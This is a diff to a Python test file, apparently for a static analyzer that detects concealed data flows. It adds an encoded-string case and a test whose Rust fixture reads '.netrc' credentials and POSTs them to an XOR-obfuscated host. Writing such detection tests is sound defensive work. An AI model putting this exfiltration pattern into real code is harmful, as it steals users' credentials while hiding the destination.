@@ -218,6 +218,7 @@ def test_hidden_names_written_to_and_run() -> None:
     [
         ("[4.09e-85, 3.4e-80, 3.3e+151, 4.1e-80]", True),  # floats that are bytes
         ("&[0x68, 0x74, 0x74, 0x70]", True),
+        ("&[(87, 2), (33, 0), (137, 28), (128, 2)]", True),  # a book cipher's word and letter
         ('".-.. .. -... .-. .- .-. -.--"', True),  # Morse
         ('"⠓⠊⠙⠙⠑⠝"', True),  # Braille
         ('b"\\x1b\\x03\\x00"', True),
@@ -359,3 +360,14 @@ def test_a_web_pages_storage_sent_by_a_beacon() -> None:
     )
     (flow,) = flows(source)
     assert (flow.sink, flow.sources, flow.fixed) == ("beacon", frozenset({"browser-storage"}), True)
+
+
+def test_a_call_written_inside_a_macros_arguments() -> None:
+    # tree-sitter leaves `format!`'s arguments as tokens: `name(KEY)` there is still a call
+    source = (
+        "const KEY: [u8; 4] = [0x32, 0x2e, 0x2e, 0x2a];\n"
+        "fn name(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x5a) as char).collect() }\n"
+        f'fn f() {{\n{HOME}let d = std::fs::read(home.join(".netrc")).unwrap();\n'
+        'ureq::post(&format!("https://{}/u", name(&KEY))).send_bytes(&d).ok(); }\n'
+    )
+    assert {(flow.hidden, flow.fixed) for flow in flows(source)} == {(True, True)}
